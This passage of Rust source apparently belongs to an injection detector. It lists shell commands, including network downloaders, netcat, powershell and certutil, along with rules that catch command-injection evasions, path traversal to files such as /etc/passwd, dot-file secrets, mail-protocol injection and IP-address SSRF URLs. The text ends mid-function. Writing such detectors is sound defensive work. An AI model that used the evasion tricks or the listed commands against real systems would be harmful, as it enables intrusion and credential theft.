        "base64", "base32", "bzip2", "gunzip", "unxz", "zstdcat", "zcat", "bsdtar",
        "lwp-download", "lwp-request", "tftp", "telnet", "mkfifo", "iptables", "systemctl",
        "sysctl", "lsof", "dmesg", "lastlog", "lastlogin", "getent", "pkill", "killall",
        "poweroff", "apt-get", "aptitude", "dpkg", "pip3", "pipx", "kubectl", "sqlite3",
        "redis-cli", "openssl", "nmap", "tcpdump", "tasklist", "taskkill", "systeminfo",
        "icacls", "xcopy", "robocopy", "hexdump", "unzip", "htop", "traceroute", "fdisk",
        "lsblk", "umount", "printenv", "uptime", "python2", "python3", "gcc", "c89", "c99",
        "ksh", "zsh", "csh", "tcsh", "ansible", "ansible-config", "ansible-galaxy",
        "ansible-console", "ansible-doc", "ansible-inventory", "ansible-pull", "ansible-vault",
        "ansible-playbook", "chef-vault", "chef-shell", "chef-run", "chef-client", "cscli",
        "cpulimit", "uconv", "rmt", "rmt-tar", "rmt-dump", "ssh-copy-id", "jrunscript",
        "jshell", "irb", "tclsh", "xterm", "setsid", "gawk", "egrep", "xargs", "wscript",
        "cscript", "regedit", "schtasks", "iwr", "iex", "iwmi", "powershell", "certutil",
        "mshta", "bitsadmin", "rundll32", "regsvr32", "wmic", "bcdboot", "bcdedit", "vssadmin",
        "diskpart", "ssh-keygen", "passwd", "chattr", "lsattr", "aa-disable", "zstd", "perf",
    ];
    /// Commands that are also English words or names: need shell-looking arguments.
    #[rustfmt::skip]
    const WEAK_CMDS: &[&str] = &[
        "cat", "id", "find", "more", "less", "head", "tail", "set", "sort", "file", "type",
        "time", "who", "w", "echo", "sleep", "kill", "ping", "cut", "top", "free", "touch",
        "env", "which", "date", "dig", "host", "mail", "nice", "wait", "watch", "split", "join",
        "last", "rev", "tac", "tar", "zip", "ls", "ps", "rm", "cd", "cp", "mv", "ln", "df",
        "du", "ip", "nc", "sh", "ed", "vi", "vim", "ex", "tr", "wc", "nl", "od", "dd", "at",
        "su", "curl", "bash", "dash", "python", "perl", "ruby", "php", "node", "lua", "awk",
        "sed", "grep", "cmd", "net", "del", "dir", "copy", "move", "start", "call", "exec",
        "eval", "source", "export", "trap", "printf", "column", "fold", "comm", "flock",
        "bridge", "mount", "route", "arp", "screen", "tmux", "emacs", "nano", "pico", "strings",
        "stat", "tee", "uniq", "locate", "whereis", "pwd", "ll", "rc", "pip", "npm", "gem",
        "apt", "yum", "dnf", "rpm", "docker", "mysql", "psql", "mongo", "ssh", "scp", "sftp",
        "rsync", "service", "halt", "reg", "finger", "whois", "make", "timeout", "chef", "gzip",
        "xz", "reboot", "shutdown", "printf", "test", "busybox",
    ];
    /// Words that run the next word as a command (`time whoami`, `nohup sh`, `sudo id`).
    #[rustfmt::skip]
    const PREFIX_CMDS: &[&str] = &[
        "time", "nohup", "strace", "ltrace", "sudo", "env", "timeout", "nice", "xargs", "exec",
        "busybox", "command", "builtin", "watch", "then", "do",
    ];
    /// Reconnaissance commands sent bare after a separator (`;id`, `|ps`, `&&env`).
    #[rustfmt::skip]
    const PROBE_CMDS: &[&str] = &[
        "id", "ps", "env", "set", "ls", "pwd", "who", "w", "top", "sh", "bash", "ksh", "zsh",
        "dir", "ver", "hostname", "whoami", "uname", "ifconfig", "ipconfig", "netstat", "htop",
        "lastlog", "aptitude", "visudo", "cscli", "shutdown", "reboot", "ll", "cmd",
    ];

    static COMMANDS: LazyLock<WordMap> = LazyLock::new(|| {
        WordMap::new(&[
            (STRONG_CMDS, STRONG),
            (WEAK_CMDS, WEAK),
            (PREFIX_CMDS, PREFIX),
            (PROBE_CMDS, PROBE),
        ])
    });

    /// Words after a command that make it prose ("Wget is…", "openssl ships…").
    const PROSE_NEXT: &[&str] = &[
        "is", "was", "are", "were", "be", "can", "could", "may", "might", "must", "will", "would",
        "should", "does", "did", "has", "had", "have", "and", "or", "the", "a", "an", "to", "for",
        "of", "in", "on", "with", "it", "i", "you", "we", "my", "not", "also", "that", "which",
        "vs", "version", "itself", "package", "command", "program", "tool", "as", "if", "when",
        "but", "so", "than", "then", "by", "at", "from", "into", "only",
    ];

    /// A command word at a command position — value start, after `;` `|` `||` `&` `&&` a
    /// backtick `$(` or a newline, or after a prefix such as `time`/`nohup` — after undoing
    /// the shell's quoting evasions (`c'a't`, `c\at`, `$@`, `${IFS}`, `cat$u`).
    fn command_positions(s: &Scan) -> bool {
        let t = s.t;
        let mut buf = Vec::new();
        let mut start = 0;
        let mut opener = 0u8;
        loop {
            let (end, sep_len) = next_separator(t, start);
            // A command, its prefix words and first argument fit in this many bytes.
            let seg = t.slice(start, end.min(start + 96));
            let evasive = seg
                .iter()
                .any(|c| matches!(c, b'\'' | b'"' | b'\\' | b'^' | b'$' | b'`' | b'<' | b'>'));
            // `cat+/etc/passwd`: a `+` left over from form encoding separates words.
            let plus_spaces = seg.contains(&b'+') && !seg.contains(&b' ');
            let seg = if evasive || plus_spaces {
                normalize_into(seg, &mut buf);
                if plus_spaces {
                    buf.iter_mut()
                        .filter(|c| **c == b'+')
                        .for_each(|c| *c = b' ');
                }
                buf.as_slice()
            } else {
                seg
            };
            let ctx = Seg {
                opener,
                closer: t.at(end),
            };
            let pos = if opener == 0 {
                Pos::Start
            } else {
                Pos::Separator
            };
            if command_at(Text(seg), 0, pos, ctx, 0) {
                return true;
            }
            if end >= t.len() {
                return false;
            }
            opener = t.at(end);
            start = end + sep_len;
        }
    }

    /// Where the segment starting at `from` ends: the next command separator (`;` `|` `||`
    /// `&` `&&` backtick `$(` newline `<<<`) and its length, or the end of the value.
    fn next_separator(t: Text, from: usize) -> (usize, usize) {
        let mut i = from;
        while i < t.len() {
            let len = separator_len(t, i);
            if len > 0 {
                return (i, len);
            }
            i += 1;
        }
        (t.len(), 0)
    }

    fn separator_len(t: Text, i: usize) -> usize {
        match t.at(i) {
            // Empty `` ``, `$()`, `<()` are quoting evasions inside a word (`pi``ng`).
            b'`' if t.at(i + 1) == b'`' || t.before(i) == b'`' => 0,
            b'$' | b'<' | b'>' if t.at(i + 1) == b'(' && t.at(i + 2) == b')' => 0,
            b';' | b'\n' | b'\r' | b'`' => 1,
            b'|' => 1 + usize::from(t.at(i + 1) == b'|'),
            b'&' if t.at(i + 1) == b'&' => 2,
            b'&' if !is_html_entity(t, i) => 1,
            b'$' if t.at(i + 1) == b'(' => 2,
            b'<' if t.starts_ci(i, b"<<<") => 3,
            b'{' | b'('
                if t.at(i + 1) != b')'
                    && matches!(t.before(i), b'$' | b'<' | b'>' | b'`' | b';' | b'&' | b'|') =>
            {
                1
            }
            _ => 0,
        }
    }

    /// `&amp;`, `&#59;` are markup, not command separators.
    fn is_html_entity(t: Text, i: usize) -> bool {
        let start = i + 1 + usize::from(t.at(i + 1) == b'#');
        let mut j = start;
        while t.at(j).is_ascii_alphanumeric() && j < start + 10 {
            j += 1;
        }
        j > start && t.at(j) == b';'
    }

    /// Undoes quoting that the shell removes before running a word: quotes, backslashes,
    /// `^` (cmd.exe), special parameters (`$@`, `$*`, `$1`), `${IFS}`, empty `$()`/backticks,
    /// and unset variables glued inside a word (`c$u\at`).
    fn normalize_into(b: &[u8], out: &mut Vec<u8>) {
        out.clear();
        let t = Text(b);
        let mut i = 0;
        while i < b.len() {
            let c = t.at(i);
            let n = t.at(i + 1);
            let skip = match c {
                b'\'' | b'"' | b'^' => 1,
                b'\\' if n == b'\n' => 2,
                b'\\' => 1,
                b'$' if t.starts_ci(i + 1, b"{ifs}") => {
                    out.push(b' ');
                    6
                }
                b'$' if t.starts_ci(i + 1, b"ifs") && !t.is_word(i + 4) => {
                    out.push(b' ');
                    4
                }
                b'$' if matches!(n, b'@' | b'*' | b'!' | b'?' | b'-' | b'_' | b'$' | b'#')
                    || n.is_ascii_digit() =>
                {
                    2
                }
                b'$' if n == b'(' && t.at(i + 2) == b')' => 3,
                b'$' if (n == b'{' || n.is_ascii_alphabetic()) && is_word(t.before(i)) => {
                    glued_variable_len(t, i)
                }
                b'`' if n == b'`' => 2,
                b'<' | b'>' if n == b'(' && t.at(i + 2) == b')' => 3,
                _ => {
                    out.push(c);
                    1
                }
            };
            i += skip;
        }
    }

    fn glued_variable_len(t: Text, i: usize) -> usize {
        if t.at(i + 1) == b'{' {
            memchr::memchr(b'}', t.slice(i, i + 32)).map_or(1, |e| e + 1)
        } else {
            t.word_end(i + 1) - i
        }
    }

    /// The separators around a command segment (0 = start/end of the value).
    #[derive(Clone, Copy)]
    struct Seg {
        opener: u8,
        closer: u8,
    }

    #[derive(Clone, Copy, PartialEq)]
    enum Pos {
        Start,
        Separator,
        Prefixed,
    }

    /// Is there a command word at `i` (after optional whitespace, `(`, `{`, `@`, a path)?
    fn command_at(t: Text, i: usize, pos: Pos, seg: Seg, depth: u8) -> bool {
        let mut i = t.skip_ws(i);
        while pos != Pos::Start && matches!(t.at(i), b'(' | b'{' | b'@' | b'!') {
            i = t.skip_ws(i + 1);
        }
        let start = i;
        let mut e = i;
        while e < t.len()
            && !t.at(e).is_ascii_whitespace()
            && !matches!(
                t.at(e),
                b';' | b'|'
                    | b'&'
                    | b'`'
                    | b'<'
                    | b'>'
                    | b'('
                    | b')'
                    | b'{'
                    | b'}'
                    | b','
                    | b'\''
                    | b'"'
            )
        {
            e += 1;
        }
        let mut token = t.slice(start, e);
        if token.is_empty() {
            return false;
        }
        if variable_command(t, token, e, pos) {
            return true;
        }
        // Windows switches glued to the command: `bcdboot/r`, `cmd/c`.
        if let Some(slash) = token.iter().position(|c| *c == b'/').filter(|&p| p > 0) {
            let head = token.get(..slash).unwrap_or_default();
            let switch = token.get(slash + 1..).unwrap_or_default();
            if command_class(head) & STRONG != 0
                && (1..=2).contains(&switch.len())
                && switch.iter().all(u8::is_ascii_alphabetic)
            {
                return true;
            }
            if token.first() != Some(&b'/') && !token.starts_with(b"bin/") {
                token = head;
            }
        }
        let has_path = token.contains(&b'/') || token.contains(&b'\\');
        if has_path && token.first() != Some(&b'/') && !token.starts_with(b"bin/") {
            return false;
        }
        let e = start + token.len();
        let name = token
            .rsplit(|c| *c == b'/' || *c == b'\\')
            .next()
            .unwrap_or(token);
        let name = strip_exe(name);
        let class = command_class(name);
        let glob = name.iter().any(|c| matches!(c, b'?' | b'*' | b'['))
            && glob_matches(name, GLOB_COMMANDS);
        if class == 0 && !glob {
            return false;
        }
        let next = t.skip_ws(e);
        let at_end = matches!(t.at(next), 0 | b')' | b'}' | b'#');
        let value_end = t.at(next) == 0 && seg.closer == 0;
        let arg = shell_argument(t, e, next);
        let prose = !at_end && !arg && prose_continuation(t, next);
        if class & PREFIX != 0
            && depth < 3
            && !at_end
            && command_at(t, next, Pos::Prefixed, seg, depth + 1)
        {
            return true;
        }
        let strong = class & STRONG != 0;
        let weak = class & WEAK != 0;
        let probe = class & PROBE != 0;
        // `` `word` `` is also markdown code: a bare command in backticks must be a probe;
        // a bare Title-case word ("… | Sh") is prose.
        let bare = at_end && t.at(next) == 0;
        if bare && ((seg.opener == b'`' && seg.closer == b'`' && !probe) || is_title_case(name)) {
            return false;
        }
        if glob || (has_path && (arg || at_end)) {
            return true;
        }
        match pos {
            Pos::Start => {
                (strong && name.len() > 3 && (value_end || !prose)) || ((strong || weak) && arg)
            }
            Pos::Separator | Pos::Prefixed => {
                (strong && (arg || at_end || (!prose && name.len() > 3)))
                    || (weak && arg)
                    || (probe && at_end)
                    || (pos == Pos::Prefixed && (weak || strong) && value_end)
            }
        }
    }

    fn is_title_case(w: &[u8]) -> bool {
        w.len() > 1
            && w.first().is_some_and(u8::is_ascii_uppercase)
            && w.iter().skip(1).all(u8::is_ascii_lowercase)
    }

    fn command_class(name: &[u8]) -> u8 {
        let c = COMMANDS.get(name);
        let versioned = ["python3.", "python2.", "gcc", "pip3."].iter().any(|p| {
            starts_with_ci(name, p.as_bytes())
                && name.len() > p.len()
                && name
                    .get(p.len()..)
                    .unwrap_or_default()
                    .iter()
                    .all(|c| c.is_ascii_digit() || *c == b'.')
        });
        c | if versioned { STRONG } else { 0 }
    }

    /// `$c $a$b`, `$a -nlvp 555`, `${SHELL} -c …`: a variable expanded as the command, with
    /// arguments (the command was assigned earlier, `c=cat`).
    fn variable_command(t: Text, token: &[u8], e: usize, pos: Pos) -> bool {
        let Some(rest) = token.strip_prefix(b"$") else {
            return false;
        };
        let name = rest
            .strip_prefix(b"{")
            .and_then(|r| r.strip_suffix(b"}"))
            .unwrap_or(rest);
        let is_var = name
            .first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
            && name.iter().all(|c| is_word(*c));
        let next = t.skip_ws(e);
        let followed = next > e && t.at(next) != 0;
        is_var
            && followed
            && (pos != Pos::Start
                || shell_argument(t, e, next)
                || command_class(t.slice(next, t.word_end(next))) != 0)
    }

    fn strip_exe(w: &[u8]) -> &[u8] {
        match w.len().checked_sub(4) {
            Some(n) if w.get(n..).is_some_and(|s| s.eq_ignore_ascii_case(b".exe")) => {
                w.get(..n).unwrap_or(w)
            }
            _ => w,
        }
    }

    /// The argument after a command looks like shell: a flag, a path, a redirection, a
    /// variable, a host/file name, an IP address.
    fn shell_argument(t: Text, cmd_end: usize, i: usize) -> bool {
        let (c, n) = (t.at(i), t.at(i + 1));
        if i == cmd_end && !matches!(c, b'<' | b'>') {
            return false;
        }
        match c {
            b'-' => {
                n.is_ascii_alphabetic()
                    || (n == b'-' && t.at(i + 2).is_ascii_alphabetic())
                    || (n.is_ascii_digit() && t.at(i + 2) == 0)
            }
            b'/' => {
                n.is_ascii_alphanumeric()
                    || matches!(n, b'?' | b'*' | b'[' | b'.' | b'$' | b'~')
                    || (n == 0 && i > cmd_end)
            }
            b'~' | b'$' | b'%' => n != 0 && !n.is_ascii_digit() && !n.is_ascii_whitespace(),
            b'.' => matches!(n, b'/' | b'.' | b'\\'),
            b'<' | b'>' => n != b'=',
            b'+' => n.is_ascii_alphabetic(),
            _ if c.is_ascii_alphanumeric() => {
                let mut e = i;
                while e < t.len()
                    && !t.at(e).is_ascii_whitespace()
                    && !matches!(t.at(e), b';' | b'|' | b'&' | b'`' | b')')
                {
                    e += 1;
                }
                looks_like_host_or_file(t.slice(i, e))
            }
            _ => false,
        }
    }

    /// `evil.php`, `google.com`, `10.0.0.1`, `site.yml`, `c:\x` — not a sentence word.
    fn looks_like_host_or_file(tok: &[u8]) -> bool {
        if tok.eq_ignore_ascii_case(b"localhost") {
            return true;
        }
        if tok.len() > 2 && tok.get(1) == Some(&b':') && matches!(tok.get(2), Some(b'\\' | b'/')) {
            return true;
        }
        let dots = tok.iter().filter(|c| **c == b'.').count();
        if dots == 3 && tok.iter().all(|c| c.is_ascii_digit() || *c == b'.') {
            return true;
        }
        let Some(dot) = tok.iter().rposition(|c| *c == b'.') else {
            return false;
        };
        let ext = tok.get(dot + 1..).unwrap_or_default();
        let stem = tok.get(..dot).unwrap_or_default();
        stem.iter().any(u8::is_ascii_alphabetic)
            && (1..=6).contains(&ext.len())
            && ext.iter().all(u8::is_ascii_alphanumeric)
            && ext.iter().any(u8::is_ascii_alphabetic)
            && tok
                .iter()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_' | b'/' | b':'))
    }

    /// The next word reads as English: a function word, a third-person verb ("works"), a
    /// capitalised word, or punctuation such as `:`/`,`.
    fn prose_continuation(t: Text, i: usize) -> bool {
        let e = t.word_end(i);
        let w = t.slice(i, e);
        if w.is_empty() {
            return !matches!(t.at(i), 0 | b'-' | b'/' | b'$' | b'~' | b'.');
        }
        let verb = w.len() > 3 && w.last() == Some(&b's') && w.iter().all(u8::is_ascii_lowercase);
        let more = t.next_word(e).is_some_and(|(a, b)| {
            t.slice(a, b).iter().all(u8::is_ascii_lowercase) && t.at(t.skip_ws(b)) != 0
        });
        in_list(PROSE_NEXT, w)
            || (verb && more)
            || w.first().is_some_and(u8::is_ascii_uppercase)
            || w.iter().all(u8::is_ascii_digit)
    }

    /// Targets a glob pattern (`c?t`, `/???/b??h`, `/et*/`) is matched against.
    const GLOB_COMMANDS: &[&str] = &[
        "cat", "nc", "sh", "bash", "wget", "curl", "python", "perl", "id", "ls", "uname", "whoami",
        "rm", "php", "echo", "tac", "ps", "ifconfig",
    ];
    const GLOB_PATH_WORDS: &[&str] = &[
        "etc", "bin", "usr", "sbin", "dev", "tmp", "var", "proc", "passwd", "shadow", "hosts",
        "group", "issue", "cat", "sh", "bash", "nc", "ls", "id", "uname", "whoami", "wget", "curl",
        "python", "perl", "php", "tac", "ps", "more", "less", "head", "tail", "env",
    ];

    /// Wildcards that resolve to a command or system path segment (`/???/c?t`, `/et*/passwd`,
    /// `/etc/pa[s]swd`, `/bi[n]/bash`); globs in ordinary file names do not count.
    fn glob_path(s: &Scan) -> bool {
        let t = s.t;
        if !s.has(b'/') || !s.has_any(b"?*[") {
            return false;
        }
        let mut buf = Vec::new();
        let mut next_allowed = 0;
        for i in memchr::memchr_iter(b'/', t.0) {
            let token_start = i == 0
                || matches!(
                    t.before(i),
                    b' ' | b'\t'
                        | b';'
                        | b'|'
                        | b'&'
                        | b'='
                        | b'`'
                        | b'('
                        | b'{'
                        | b','
                        | b'+'
                        | b'\''
                        | b'"'
                );
            if i < next_allowed || !token_start {
                continue;
            }
            let mut e = i;
            while e < t.len()
                && e < i + 256
                && !t.at(e).is_ascii_whitespace()
                && !matches!(t.at(e), b';' | b'|' | b'&' | b'`' | b')' | b'}' | b',')
            {
                e += 1;
            }
            next_allowed = e;
            normalize_into(t.slice(i, e), &mut buf);
            let globbed_system_segment = buf.split(|c| *c == b'/').any(|seg| {
                seg.iter().any(|c| matches!(c, b'?' | b'*' | b'['))
                    && seg.iter().any(|c| !matches!(c, b'*'))
                    && glob_matches(seg, GLOB_PATH_WORDS)
            });
            if globbed_system_segment && buf.iter().filter(|c| **c == b'/').count() >= 2 {
                return true;
            }
        }
        false
    }

    fn glob_matches(pattern: &[u8], targets: &[&str]) -> bool {
        let pat = collapse_brackets(pattern);
        !pat.iter().all(|c| matches!(c, b'?' | b'*'))
            && targets.iter().any(|c| glob_match(&pat, c.as_bytes()))
    }

    /// Wildcard match (`?`, `*`), ASCII case-insensitive, with one backtrack point.
    fn glob_match(pat: &[u8], s: &[u8]) -> bool {
        let (mut pi, mut si) = (0usize, 0usize);
        let (mut star, mut mark) = (None::<usize>, 0usize);
        while si < s.len() {
            let pc = pat.get(pi).map(u8::to_ascii_lowercase);
            let sc = s.get(si).copied();
            if pc.is_some() && (pc == Some(b'?') || pc == sc) {
                pi += 1;
                si += 1;
            } else if pc == Some(b'*') {
                star = Some(pi);
                mark = si;
                pi += 1;
            } else if let Some(sp) = star {
                pi = sp + 1;
                mark += 1;
                si = mark;
            } else {
                return false;
            }
        }
        while pat.get(pi) == Some(&b'*') {
            pi += 1;
        }
        pi == pat.len()
    }

    /// `[abc]` classes become a single `?`.
    fn collapse_brackets(p: &[u8]) -> Vec<u8> {
        let mut out = Vec::with_capacity(p.len());
        let mut i = 0;
        while let Some(&c) = p.get(i) {
            let close = (c == b'[')
                .then(|| p.get(i..).and_then(|r| r.iter().position(|x| *x == b']')))
                .flatten();
            match close {
                Some(cl) => {
                    out.push(b'?');
                    i += cl + 1;
                }
                None => {
                    out.push(c);
                    i += 1;
                }
            }
        }
        out
    }

    /// `{cat,/etc/passwd}`, `{,ifconfig}`, `{id,}`: bash brace expansion building a command
    /// (a brace inside a path, `/etc/{passwd,group}`, is just a file list).
    fn brace_expansion(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'{')
            && s.has(b',')
            && memchr::memchr_iter(b'{', t.0).any(|p| {
                let window = t.slice(p + 1, p + 129);
                let Some(close) = memchr::memchr(b'}', window) else {
                    return false;
                };
                let body = window.get(..close).unwrap_or_default();
                let first = body
                    .split(|c| *c == b',')
                    .find(|x| !x.is_empty())
                    .unwrap_or_default();
                let name = first.rsplit(|c| *c == b'/').next().unwrap_or(first);
                body.contains(&b',')
                    && !body.iter().any(u8::is_ascii_whitespace)
                    && t.before(p) != b'/'
                    && (command_class(name) & (STRONG | WEAK) != 0
                        || (first.first() == Some(&b'/') && glob_matches(name, GLOB_COMMANDS)))
            })
    }

    /// cmd.exe `FOR [/D|/R|/L|/F "opts"] %x IN (…) DO …`.
    fn for_loop(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::FOR)
            && s.has(b'%')
            && s.has(b'(')
            && s.each_word("for", |_, e| {
                let window = Text(t.slice(e, e + 200));
                let Some(pct) = memchr::memchr(b'%', window.0) else {
                    return false;
                };
                let pre_ok = window.slice(0, pct).iter().all(|c| {
                    c.is_ascii_alphanumeric()
                        || c.is_ascii_whitespace()
                        || matches!(
                            c,
                            b'/' | b'"'
                                | b'='
                                | b'*'
                                | b','
                                | b'-'
                                | b':'
                                | b'\\'
                                | b'.'
                                | b'~'
                                | b'_'
                        )
                });
                let Some(inp) = find_ci(window.0, b" in", pct) else {
                    return false;
                };
                let paren = window.skip_ws(inp + 3);
                pre_ok
                    && inp < pct + 12
                    && window.at(paren) == b'('
                    && find_ci(window.0, b"do", paren)
                        .is_some_and(|d| window.slice(paren, d).contains(&b')'))
            })
    }

    /// cmd.exe `IF [/I] [NOT] EXIST|DEFINED|ERRORLEVEL x cmd`, `IF a==b cmd`, `IF x GEQ y cmd`.
    fn if_statement(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::IF)
            && s.word(keywords::BATCH)
            && s.each_word("if", |_, e| {
                let mut i = t.skip_ws(e);
                if t.starts_ci(i, b"/i") {
                    i = t.skip_ws(i + 2);
                }
                let mut w = t.next_word(i);
                if t.word_is(w, &["not"]) {
                    w = w.and_then(|(_, x)| t.next_word(x));
                }
                if t.word_is(w, &["exist", "defined", "errorlevel", "cmdextversion"]) {
                    let after = w.map_or(i, |(_, x)| x);
                    let operand = t.next_word(after);
                    let operand_ok = operand.is_some() && !t.word_is(operand, PROSE_NEXT)
                        || matches!(t.at(t.skip_ws(after)), b'"' | b'%' | b'(' | b'[');
                    return t.at(after).is_ascii_whitespace() && operand_ok;
                }
                batch_comparison(t, i)
            })
    }

    /// `a==b cmd` (no spaces, or quoted/bracketed/`%var%` sides) and `x EQU y cmd` on one line.
    fn batch_comparison(t: Text, i: usize) -> bool {
        let line_end =
            memchr::memchr(b'\n', t.slice(i, i + 160)).map_or((i + 160).min(t.len()), |x| i + x);
        let line = Text(t.slice(i, line_end));
        let batch_side = |c: u8| {
            matches!(
                c,
                b'"' | b'[' | b']' | b'(' | b')' | b'%' | b'{' | b'}' | b'!'
            )
        };
        if let Some(q) = find(line.0, b"==", 0) {
            let tight =
                !line.before(q).is_ascii_whitespace() && !line.at(q + 2).is_ascii_whitespace();
            let marked = batch_side(line.before(line.skip_back_ws(q)))
                || batch_side(line.at(line.skip_ws(q + 2)));
            let lhs = trim_ascii(line.slice(0, q));
            let one_token = !lhs.is_empty()
                && lhs
                    .split(u8::is_ascii_whitespace)
                    .filter(|w| !w.is_empty())
                    .count()
                    <= 2;
            if one_token && (tight || marked) {
                return true;
            }
        }
        ["equ", "neq", "lss", "leq", "gtr", "geq"].iter().any(|op| {
            let mut from = 0;
            while let Some(q) = find_ci(line.0, op.as_bytes(), from) {
                from = q + 3;
                if line.before(q).is_ascii_whitespace()
                    && line.at(q + 3).is_ascii_whitespace()
                    && line.slice(0, q).iter().filter(|c| **c == b' ').count() <= 12
                {
                    return true;
                }
            }
            false
        })
    }

    /// Shellshock `() {` function definitions and fork bombs `:(){ :|:& };:`.
    fn function_definition(s: &Scan) -> bool {
        s.has(b'{') && find_all(s.t.0, b"()").any(|p| s.t.at(s.t.skip_ws(p + 2)) == b'{')
    }

    /// `alias x=cmd`, `alias -p a=b`.
    fn alias_definition(s: &Scan) -> bool {
        let t = s.t;
        s.word(keywords::ALIAS)
            && s.has(b'=')
            && s.each_word("alias", |_, e| {
                let mut i = t.skip_ws(e);
                while matches!(t.at(i), b'-' | b'+') {
                    while i < t.len() && !t.at(i).is_ascii_whitespace() {
                        i += 1;
                    }
                    i = t.skip_ws(i);
                }
                let mut j = i;
                while j < t.len() && !t.at(j).is_ascii_whitespace() && t.at(j) != b'=' {
                    j += 1;
                }
                e < i && j > i && t.at(j) == b'='
            })
    }

    /// `$((…))`, `$[2+2]`: shell arithmetic expansion.
    fn arithmetic_expansion(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'$')
            && (find(t.0, b"$((", 0).is_some()
                || find_all(t.0, b"$[").any(|p| {
                    let body = t.slice(p + 2, p + 34);
                    memchr::memchr(b']', body).is_some_and(|c| {
                        body.get(..c).unwrap_or_default().iter().all(|x| {
                            x.is_ascii_digit()
                                || matches!(
                                    x,
                                    b'+' | b'-' | b'*' | b'/' | b' ' | b'$' | b'(' | b')'
                                )
                        })
                    })
                }))
    }

    /// `$(cmd)`, `<(cmd …)`, `>(tee x)`, `${cmd}`: command/process substitution of a command.
    fn substitution(s: &Scan) -> bool {
        let t = s.t;
        s.has_any(b"<>$")
            && s.has_any(b"({")
            && [&b"<("[..], b">(", b"$(", b"${"].iter().any(|open| {
                find_all(t.0, open).any(|p| {
                    let e = t.word_end(p + 2);
                    let close = t.at(t.skip_ws(e));
                    e > p + 2
                        && matches!(close, b')' | b' ' | b'$' | b'}')
                        && command_class(t.slice(p + 2, e)) & (STRONG | WEAK) != 0
                })
            })
    }

    /// SMTP/IMAP/POP3 command injection: a CRLF followed by a protocol verb line.
    fn mail_protocol(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'\r')
            && find_all(t.0, b"\r\n").any(|p| {
                let start = p + 2;
                let end =
                    memchr::memchr(b'\n', t.slice(start, t.len())).map_or(t.len(), |e| start + e);
                mail_verb_line(Text(trim_ascii(t.slice(start, end))))
            })
    }

    fn mail_verb_line(l: Text) -> bool {
        let smtp = [
            "mail from:",
            "rcpt to:",
            "ehlo ",
            "helo ",
            "auth ",
            "apop ",
            "vrfy ",
            "expn ",
        ]
        .iter()
        .any(|v| l.starts_ci(0, v.as_bytes()));
        let bare = in_list(&["data", "quit", "rset", "noop"], l.0)
            && l.0.iter().all(u8::is_ascii_uppercase);
        let pop = ["retr ", "top ", "list ", "dele "]
            .iter()
            .any(|v| l.starts_ci(0, v.as_bytes()))
            && l.0
                .iter()
                .skip_while(|c| c.is_ascii_alphabetic())
                .all(|c| c.is_ascii_digit() || *c == b' ');
        let tag_end = l.word_end(0);
        let imap = tag_end > 0
            && l.at(tag_end) == b' '
            && l.slice(0, tag_end).iter().any(u8::is_ascii_digit)
            && l.word_is(
                l.next_word(tag_end),
                &[
                    "login",
                    "select",
                    "examine",
                    "append",
                    "store",
                    "uid",
                    "fetch",
                    "copy",
                    "list",
                    "search",
                    "status",
                    "authenticate",
                    "create",
                    "delete",
                    "rename",
                    "logout",
                    "capability",
                    "quit",
                    "noop",
                ],
            );
        let help =
            l.starts_ci(0, b"help ") && l.0.iter().all(|c| c.is_ascii_alphanumeric() || *c == b' ');
        smtp || bare || pop || imap || help
    }
}

// ---------------------------------------------------------------------------------------------
// Path traversal / local file inclusion
// ---------------------------------------------------------------------------------------------

mod path {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("path-dot-dot", dot_dot),
        ("path-dot-directory", dot_directory),
    ];

    /// Directory traversal: `../` or `..\` at a path boundary followed by a path component,
    /// and the triple-dot `.../` that defeats naive filters. (Sensitive targets such as
    /// `/etc/passwd` are literal markers.)
    fn dot_dot(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'.')
            && s.has_any(b"/\\")
            && find_all(t.0, b"..").any(|p| {
                let (after, before) = (t.at(p + 2), t.before(p));
                let boundary = matches!(
                    before,
                    0 | b'/'
                        | b'\\'
                        | b'='
                        | b' '
                        | b'\t'
                        | b'\''
                        | b'"'
                        | b':'
                        | b';'
                        | b'|'
                        | b'('
                        | b'>'
                        | b'<'
                );
                let next = t.at(p + 3);
                let traversal = matches!(after, b'/' | b'\\')
                    && boundary
                    && (p == 0 || (next != 0 && !next.is_ascii_whitespace()));
                let triple = after == b'.'
                    && matches!(t.at(p + 3), b'/' | b'\\')
                    && matches!(before, 0 | b'/' | b'\\' | b'=');
                traversal || triple
            })
    }

    /// A path token naming a hidden dot-directory or dot-file (`/.git/config`, `/.env`,
    /// `/.claude/settings.json`): configuration and secrets, never a page.
    fn dot_directory(s: &Scan) -> bool {
        let t = s.t;
        s.has(b'/')
            && s.has(b'.')
            && find(t.0, b"://", 0).is_none()
            && find_all(t.0, b"/.").any(|p| {
                let token_start = t
                    .slice(0, p)
                    .iter()
                    .rposition(u8::is_ascii_whitespace)
                    .map_or(0, |x| x + 1);
                let name_start = p + 2;
                let mut e = name_start;
                while t.is_word(e) || matches!(t.at(e), b'-' | b'.') {
                    e += 1;
                }
                let name = t.slice(name_start, e);
                t.at(token_start) == b'/'
                    && name.len() >= 2
                    && name.first().is_some_and(|c| is_word(*c))
            })
    }
}

// ---------------------------------------------------------------------------------------------
// Remote file inclusion / SSRF
// ---------------------------------------------------------------------------------------------

mod remote {
    use super::*;

    pub const RULES: &[Rule] = &[
        ("rfi-ip-url", ip_url),
        ("rfi-trailing-question-mark", trailing_question),
        ("rfi-data-uri", data_uri),
    ];

    /// http(s)/ftp URLs whose host is a literal IP address (v4, v6, or decimal): include and
    /// SSRF payloads point at raw addresses, links in prose name hosts.
    fn ip_url(s: &Scan) -> bool {
        let t = s.t;
        s.has(b':')
            && find_all(t.0, b"://").any(|p| {
                let scheme_start = t
                    .slice(0, p)
                    .iter()
                    .rposition(|c| !c.is_ascii_alphanumeric())
                    .map_or(0, |x| x + 1);
                let mut e = p + 3;
                while e < t.len()
                    && !matches!(
                        t.at(e),
                        b'/' | b'?' | b'#' | b' ' | b'\t' | b'\n' | b'"' | b'\'' | b'<'
                    )
                {
                    e += 1;
                }
                let authority = t.slice(p + 3, e);
